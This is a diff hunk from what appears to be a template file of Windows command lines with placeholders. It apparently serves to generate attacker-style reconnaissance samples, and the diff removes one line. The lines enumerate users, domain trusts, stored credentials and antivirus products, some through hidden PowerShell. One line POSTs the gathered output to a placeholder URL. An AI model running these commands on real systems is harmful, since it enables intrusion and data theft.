@@ -131,7 +131,6 @@ cmd /q /c ipconfig /all&&arp -a&&net view /all&&net share&&nltest /dclist: 2>nul
 C:\Windows\System32\cmd.exe /c hostname > @tmp@info.txt & systeminfo >> @tmp@info.txt & net user >> @tmp@info.txt & tasklist >> @tmp@info.txt & reg query HKCU\Software >> @tmp@info.txt
 powershell -w hidden -c "whoami; ipconfig /all; Get-Process; net group 'Domain Computers' /domain; nltest /trusted_domains | Out-File @tmp@@word@.log"
 powershell.exe -nop -c "& {whoami /all; systeminfo; net view; net accounts /domain} | out-string | % {irm -Method Post -Uri @url@ -Body $_}"
-cmd /c @tmp@«recon|info|c|sys».bat
 cmd.exe /c (ver & whoami /groups & quser & net use & cmdkey /list & dir C:\Users & dir "C:\Program Files") > @tmp@@word@.tmp
 cmd /c echo ---USER--- & whoami & echo ---NET--- & ipconfig & echo ---AV--- & wmic /namespace:\\root\securitycenter2 path antivirusproduct get displayname
 cmd.exe /c chcp 65001 & systeminfo & net config workstation & net time /domain & net localgroup
